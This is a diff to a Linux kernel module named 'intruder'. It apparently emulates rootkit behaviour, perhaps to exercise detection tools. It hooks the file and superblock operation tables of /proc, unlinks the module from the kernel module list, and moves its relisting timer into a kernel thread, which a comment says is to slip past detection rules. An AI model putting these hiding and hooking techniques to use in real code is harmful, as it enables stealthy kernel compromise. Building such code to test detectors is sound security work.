@@ -3,10 +3,11 @@
 #include "intruder.h"
 #include <linux/fs.h>
 #include <linux/kprobes.h>
+#include <linux/kthread.h>
 #include <linux/module.h>
+#include <linux/sched/task.h>
 #include <linux/seq_file.h>
 #include <linux/time64.h>
-#include <linux/workqueue.h>
 #include <net/tcp.h>
 
 #define INTRUDER_GETTID    178
@@ -104,29 +105,72 @@ int intruder_proc(void)
 	return error;
 }
 
-/* The directory /proc, by a table of this module's that says the same. */
-static struct inode *intruder_inode;
+/* A file or directory that is open, by a table of this module's that says the same. */
+static struct file *intruder_opened;
 static struct file_operations intruder_operations;
+static struct super_operations intruder_system;
+
+static int intruder_open(const char *path)
+{
+	intruder_opened = filp_open(path, O_RDONLY, 0);
+	return PTR_ERR_OR_ZERO(intruder_opened);
+}
+
+static int intruder_operate(const char *path)
+{
+	const int error = intruder_open(path);
+	struct inode *inode;
+
+	if (error)
+		return error;
+	inode = file_inode(intruder_opened);
+	intruder_former = (void *)inode->i_fop;
+	intruder_operations = *inode->i_fop;
+	intruder_operations.owner = NULL;
+	inode->i_fop = &intruder_operations;
+	return 0;
+}
 
 int intruder_directory(void)
 {
-	struct file *proc = filp_open("/proc", O_RDONLY | O_DIRECTORY, 0);
+	return intruder_operate("/proc");
+}
 
-	if (IS_ERR(proc))
-		return PTR_ERR(proc);
-	intruder_inode = file_inode(proc);
-	intruder_former = (void *)intruder_inode->i_fop;
-	intruder_operations = *intruder_inode->i_fop;
-	intruder_operations.owner = NULL;
-	intruder_inode->i_fop = &intruder_operations;
-	filp_close(proc, NULL);
-	return 0;
+int intruder_file(void)
+{
+	return intruder_operate("/proc/version");
 }
 
 void intruder_directory_undo(void)
 {
-	intruder_undone = intruder_inode->i_fop != &intruder_operations;
-	intruder_inode->i_fop = intruder_former;
+	struct inode *inode = file_inode(intruder_opened);
+
+	intruder_undone = inode->i_fop != &intruder_operations;
+	inode->i_fop = intruder_former;
+	filp_close(intruder_opened, NULL);
+}
+
+int intruder_super(void)
+{
+	const int error = intruder_open("/proc");
+	struct super_block *system;
+
+	if (error)
+		return error;
+	system = file_inode(intruder_opened)->i_sb;
+	intruder_former = (void *)system->s_op;
+	intruder_system = *system->s_op;
+	system->s_op = &intruder_system;
+	return 0;
+}
+
+void intruder_super_undo(void)
+{
+	struct super_block *system = file_inode(intruder_opened)->i_sb;
+
+	intruder_undone = system->s_op != &intruder_system;
+	system->s_op = intruder_former;
+	filp_close(intruder_opened, NULL);
 }
 
 static int intruder_shown_as(struct seq_file *file, void *socket)
@@ -169,7 +213,7 @@ int intruder_next(void)
 static struct list_head *intruder_before;              /* this module in the list */
 static void (*intruder_insert)(struct module *module); /* into the tree, if it isn't there */
 
-static void intruder_show(struct work_struct *work)
+static void intruder_show(void)
 {
 	if (intruder_entry)
 		intruder_hook_undo();
@@ -182,13 +226,28 @@ static void intruder_show(struct work_struct *work)
 	pr_alert("intruder: it is in the list again\n");
 }
 
-static DECLARE_DELAYED_WORK(intruder_shown, intruder_show);
+/* A thread, as rules find timers and delayed work that lead to a module which isn't listed. */
+static struct task_struct *intruder_shows;
+
+static int intruder_show_later(void *nothing)
+{
+	long left = intruder_hidden * HZ;
+
+	while (left > 0 && !kthread_should_stop())
+		left = schedule_timeout_interruptible(left);
+	intruder_show();
+	return 0;
+}
 
 int intruder_hide(void)
 {
+	intruder_shows = kthread_create(intruder_show_later, NULL, "intruder");
+	if (IS_ERR(intruder_shows))
+		return PTR_ERR(intruder_shows);
+	get_task_struct(intruder_shows);
 	intruder_before = THIS_MODULE->list.prev;
 	list_del_rcu(&THIS_MODULE->list);
-	schedule_delayed_work(&intruder_shown, intruder_hidden * HZ);
+	wake_up_process(intruder_shows);
 	return 0;
 }
 
@@ -207,7 +266,8 @@ int intruder_vanish(void)
 
 void intruder_hide_undo(void)
 {
-	(void)flush_delayed_work(&intruder_shown);
+	(void)kthread_stop(intruder_shows);
+	put_task_struct(intruder_shows);
 }
 
 static void intruder_kept_alive(struct sock *sock, int value)
